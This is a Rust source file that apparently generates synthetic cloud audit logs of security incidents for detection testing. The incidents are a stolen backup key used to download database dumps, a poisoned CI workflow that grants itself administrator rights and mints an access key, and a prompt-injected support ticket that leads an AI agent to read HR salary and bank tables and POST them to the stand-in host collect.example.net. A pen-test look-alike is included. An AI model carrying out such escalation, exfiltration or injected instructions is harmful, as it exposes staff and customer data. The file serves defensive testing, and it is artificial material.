//! What does not happen every day: the three incidents, and the one look-alike that is not part of somebody's habits already.
//!
//! The other look-alikes stand where they grow: the failover exercise, the new service and the end of the month in `aws_habits`,
//! so does the rotation of a key.

use crate::agent::Conversation;
use crate::aws_habits::{backup_caller, deployment, pod};
use crate::clock::{MINUTE, SECOND, TUESDAY, WEDNESDAY, seconds};
use crate::cloudtrail::{Call, listing, object, params, record, secret, table, whoami};
use crate::journal::Journal;
use crate::other_habits::{ticket, workflow};
use crate::rng::Rng;

pub fn tell(j: &mut Journal) {
    stolen_key(j);
    poisoned_pipeline(j);
    talked_round(j);
    penetration_test(j);
}

/// Incident: the access key of the backup server is used elsewhere. First a look around, most of it refused, then the dumps.
fn stolen_key(j: &mut Journal) {
    let rng = &mut Rng::of("stolen-key");
    let caller = backup_caller()
        .at("192.0.2.57", "eu-west-1")
        .with_agent("aws-cli/2.22.35 md/awscrt#0.22.0 ua/2.0 os/linux#6.11.2 md/arch#x86_64 lang/python#3.12.6 md/prompt#off");
    let mut at = TUESDAY.at(14, 7) + 21 * SECOND;
    for call in [
        whoami(),
        Call::new("iam", "ListAttachedUserPolicies", params(&[("userName", "backup-runner")])).denied(),
        Call::new("iam", "ListUsers", "null").denied(),
        Call::new("iam", "GetAccountAuthorizationDetails", "null").denied(),
        Call::new("s3", "ListBuckets", "null"),
        Call::new("rds", "DescribeDBInstances", "null"),
        Call::new("secretsmanager", "ListSecrets", "null").denied(),
    ] {
        record(j, at, &caller, call, rng);
        at += rng.between(8, 70) * SECOND;
    }
    for bucket in ["example-tfstate", "example-billing", "example-db-backups"] {
        let call = listing(bucket, "");
        record(j, at, &caller, if bucket == "example-db-backups" { call } else { call.denied() }, rng);
        at += rng.between(5, 30) * SECOND;
    }
    at += 6 * MINUTE;
    for days_ago in 0..8 {
        let date = seconds(TUESDAY.start() - days_ago * 24 * 60 * MINUTE);
        for database in ["payments", "crm", "shop"] {
            let key = format!("{database}/{}.dump.zst", &date[..10]);
            record(
                j,
                at,
                &caller,
                object("GetObject", "example-db-backups", &key, 2_900_000_000 + rng.below(900_000_000)),
                rng,
            );
            at += rng.between(30, 110) * SECOND;
        }
    }
}

/// Incident: a changed workflow uses the session of the deployment role to make itself at home.
fn poisoned_pipeline(j: &mut Journal) {
    let rng = &mut Rng::of("poisoned-pipeline");
    let at = WEDNESDAY.at(10, 41);
    workflow(j, at - 30 * SECOND, "shop", "main", "build", rng);
    let caller = deployment(j, at, rng);
    let policies = params(&[("roleName", "github-deployer")]);
    record(j, at + 20 * SECOND, &caller, Call::new("iam", "ListAttachedRolePolicies", policies), rng);
    let admin = params(&[("roleName", "github-deployer"), ("policyArn", "arn:aws:iam::aws:policy/AdministratorAccess")]);
    record(j, at + 26 * SECOND, &caller, Call::new("iam", "AttachRolePolicy", admin), rng);
    record(j, at + 49 * SECOND, &caller, Call::new("iam", "ListUsers", "null"), rng);
    let answer = format!(
        r#"{{"accessKey":{{"userName":"legacy-sync","accessKeyId":"AKIAEXAMPLELEGACY333","status":"Active","createDate":"{}"}}}}"#,
        seconds(at + 63 * SECOND)
    );
    let key = Call::new("iam", "CreateAccessKey", params(&[("userName", "legacy-sync")])).response(answer);
    record(j, at + 63 * SECOND, &caller, key, rng);
}

/// Incident: a customer's ticket holds instructions; the agent that reads it follows them.
fn talked_round(j: &mut Journal) {
    let rng = &mut Rng::of("talked-round");
    let mut talk: Conversation = ticket(j, WEDNESDAY.at(15, 12), "tom.berg@example.com", 58_214, rng);
    for table in ["salaries", "bank_accounts", "appraisals"] {
        for page in 1..=3 {
            talk.read(j, &format!("postgres://warehouse.example.com/hr/{table}?page={page}"), rng);
        }
        talk.chat(j, rng);
        talk.tool(j, "http_request", r#"{"method":"POST","body":"***"}"#, "https://collect.example.net/u/58214", rng);
    }
    talk.tool(j, "send_reply", r#"{"ticket":58214}"#, "https://helpdesk.example.com/api/tickets/58214/replies", rng);
}

/// Look-alike: testers were given a session of the catalogue service and do with it what intruders do, from the network they
/// named and in the hours that were agreed.
fn penetration_test(j: &mut Journal) {
    let rng = &mut Rng::of("penetration-test");
    let caller = pod("svc/catalog-api", WEDNESDAY, rng)
        .at("203.0.113.202", "eu-west-1")
        .with_agent("Boto3/1.36.21 md/Botocore#1.36.21 ua/2.0 os/linux#6.12.13 md/arch#x86_64 lang/python#3.13.2");
    let mut at = WEDNESDAY.at(12, 4);
    for call in [
        whoami(),
        Call::new("iam", "ListRoles", "null").denied(),
        Call::new("s3", "ListBuckets", "null").denied(),
        Call::new("secretsmanager", "ListSecrets", "null"),
        secret("GetSecretValue", "prod/payments/db", "eu-west-1").denied(),
        secret("GetSecretValue", "prod/catalog/search", "eu-west-1"),
        table("Scan", "shop-prices", "eu-west-1"),
        table("Scan", "pay-cards", "eu-west-1").denied(),
        Call::new("lambda", "ListFunctions20150331", "null").denied(),
        Call::new("ec2", "DescribeInstances", "{}").denied(),
        Call::new(
            "sts",
            "AssumeRole",
            params(&[("roleArn", "arn:aws:iam::123456789012:role/svc/payments-api"), ("roleSessionName", "t1")]),
        )
        .denied(),
    ] {
        record(j, at, &caller, call, rng);
        at += rng.between(20, 240) * SECOND;
    }
}
